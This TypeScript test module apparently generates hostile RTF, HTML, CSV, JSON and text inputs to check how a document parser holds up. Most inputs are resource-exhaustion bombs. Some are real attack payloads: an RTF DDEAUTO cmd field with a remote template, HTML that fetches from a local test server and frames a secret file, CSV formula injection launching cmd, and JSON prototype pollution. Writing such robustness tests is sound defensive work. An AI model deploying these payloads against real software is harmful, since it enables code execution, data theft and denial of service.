import type { Hostile, Target } from './model.ts';

const million = 1_000_000;

/** Files that are written in characters: RTF, HTML, CSV, JSON, plain text. */
export function typed({ port, secret }: Target): Hostile[] {
  const url = `http://127.0.0.1:${port}`;
  const hostile: [string, string][] = [
    ['an RTF of groups in groups', `{\\rtf1${'{'.repeat(2 * million)}x`],
    ['an RTF of a million rows', `{\\rtf1${'\\trowd\\cellx100 x\\cell\\row'.repeat(million)}}`],
    [
      'an RTF of a row of a million cells',
      `{\\rtf1\\trowd${'\\cellx1'.repeat(million)}${'x\\cell'.repeat(million)}\\row}`,
    ],
    [
      'an RTF of tables in tables',
      `{\\rtf1${Array.from({ length: 20_000 }, (_, depth) => `\\intbl\\itap${depth} x\\nestcell`).join('')}}`,
    ],
    [
      'an RTF with numbers beyond all bounds',
      `{\\rtf1\\uc999999999\\u-99999999999 \\fs99999999999999\\bin4294967295 x}`,
    ],
    [
      'an RTF with an object, a template and DDE',
      `{\\rtf1{\\*\\template ${url}/t.dot}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata ${'41'.repeat(100_000)}}}{\\field{\\*\\fldinst DDEAUTO cmd "/k"}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/p"}{\\fldrslt y}}}`,
    ],
    [
      'an RTF of a million fonts',
      `{\\rtf1{\\fonttbl${Array.from({ length: million }, (_, index) => `{\\f${index} x;}`).join('')}}x}`,
    ],
    ['an RTF of a megabyte in one control word', `{\\rtf1\\${'a'.repeat(million)} x}`],
    [
      'an RTF of a picture of two billion pixels',
      `{\\rtf1{\\pict\\pngblip\\picw99999\\pich99999\\picwgoal2147483647 ${'00'.repeat(million)}}}`,
    ],
    ['an HTML of elements in elements', `<!doctype html>${'<div>'.repeat(million)}x`],
    ['an HTML of tables in tables', `<!doctype html>${'<table><tr><td>'.repeat(100_000)}x`],
    ['an HTML of a million rows', `<!doctype html><table>${'<tr><td>x</td></tr>'.repeat(million)}</table>`],
    [
      'an HTML of a cell that spans a billion',
      '<!doctype html><table><tr><td colspan=999999999 rowspan=999999999>x</td></tr><tr><td>y</td></tr></table>',
    ],
    ['an HTML of a tag without end', `<!doctype html><a ${'href="x" '.repeat(million)}`],
    ['an HTML of comments without end', `<!doctype html>${'<!--'.repeat(million)}`],
    ['an HTML of a million selects', `<!doctype html>${'<select><option selected>x'.repeat(200_000)}`],
    [
      'an HTML that fetches and runs',
      `<!doctype html><script src=${url}/a></script><img src=${url}/b onerror=fetch("${url}/c")><iframe src=file://${secret}></iframe><form action=${url}/d><input></form>`,
    ],
    ['an HTML that is JPEG from the start', `\xff\xd8\xff\xe0<!doctype html><script>fetch("${url}/x")</script>`],
    ['a CSV of a million rows', `a,b,c\n${'1,2,3\n'.repeat(million)}`],
    ['a CSV of a row of a million cells', `a,b\n${'x,'.repeat(million)}\n`],
    ['a CSV of a quote without end', `a,b\n"${'x'.repeat(10 * million)}`],
    [
      'a CSV of formulas',
      `Reference,Question,Answer\n${`=HYPERLINK("${url}/x"),+cmd|' /C calc'!A0,@SUM(1)\n`.repeat(1_000)}`,
    ],
    ['a JSON of brackets in brackets', '['.repeat(5 * million)],
    [
      'a JSON with the names of all objects',
      `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"a":${'{"__proto__":'.repeat(50)}1${'}'.repeat(50)}}`,
    ],
    ['a JSON of a million entries', `{${Array.from({ length: million }, (_, index) => `"k${index}":1`).join(',')}}`],
    ['a JSON of a number of a megabyte', `{"a":${'9'.repeat(million)}}`],
    ['a text of one line of 50 MB', 'x '.repeat(25 * million)],
    ['a text of blanks', ' \t'.repeat(5 * million)],
    ['a text of colons', 'a:\n'.repeat(3 * million)],
    ['a text of dates that are none', `${'Date of Birth: 99/99/9999 '.repeat(100_000)}`],
    ['a text of tick boxes', '☐ Yes ☒ No '.repeat(50_000)],
    ['a text of marks on one letter', `a${'\u0301'.repeat(5 * million)}`],
    ['a text of half letters', '\ud800'.repeat(million)],
    ['a text of underscores and dots', `${'_'.repeat(million)}:${'.'.repeat(million)}`],
  ];
  return hostile.map(([name, text]) => ({
    name,
    bytes: name.includes('JPEG') ? Buffer.from(text, 'latin1') : Buffer.from(text),
  }));
}
